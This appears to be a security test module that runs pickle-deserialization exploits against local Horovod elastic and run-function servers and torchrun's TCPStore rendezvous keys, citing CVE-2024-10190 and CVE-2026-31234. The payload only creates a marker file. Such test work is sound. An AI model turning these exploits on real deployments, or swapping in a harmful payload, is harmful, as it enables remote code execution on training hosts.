"""What an intruder sends who can reach a port and knows no secret: the exploits, as a program.

    python -m tests.security.attacks elastic PORT MARKER      # CVE-2024-10190: runs code in horovodrun itself
    python -m tests.security.attacks function PORT MARKER     # CVE-2026-31234: runs code in a rank of `run(f)`
    python -m tests.security.attacks store PORT MARKER        # runs code in torchrun's agent, with rendezvous c10d

The code does no harm: it makes the empty file MARKER. The program prints the status of the server's answer, or 0 where
there was none; of `store`, the number of keys that it has written.
"""

from __future__ import annotations

import base64
import http.client
import os
import pickle
import sys
from datetime import timedelta
from pathlib import Path
from typing import Any

PATHS = {"elastic": "/worker_addresses/localhost:0", "function": "/runfunc/func"}


class Payload:
    """Makes a file where it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.open, (str(self._marker), os.O_CREAT | os.O_WRONLY)


def payload(marker: Path) -> bytes:
    """A request's body that makes the file when Horovod unpickles it."""
    return base64.b64encode(pickle.dumps(Payload(marker)))


def put(port: int, path: str, body: bytes) -> int:
    """Send a request as an intruder on this machine would.

    Returns:
        The status of the answer; 0 where the connection ended without one.
    """
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    try:
        connection.request("PUT", path, body)
        return connection.getresponse().status
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        connection.close()


def overwrite_store(port: int, marker: Path) -> int:
    """Put a pickle under each key that agents of torchrun keep their state under; return how many there were."""
    import torch.distributed as dist  # which the other exploits need not wait for

    make_store: Any = dist.TCPStore  # type: ignore[attr-defined]
    store = make_store("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=5))
    keys = [key for key in store.list_keys() if "torch.rendezvous." in key]
    for key in keys:
        store.set(key, payload(marker))
    return len(keys)


def attack(name: str, port: int, marker: Path) -> int:
    """Try one of the exploits once; return the status of the answer, or how many keys were written."""
    return overwrite_store(port, marker) if name == "store" else put(port, PATHS[name], payload(marker))


if __name__ == "__main__":
    print(attack(sys.argv[1], int(sys.argv[2]), Path(sys.argv[3])))
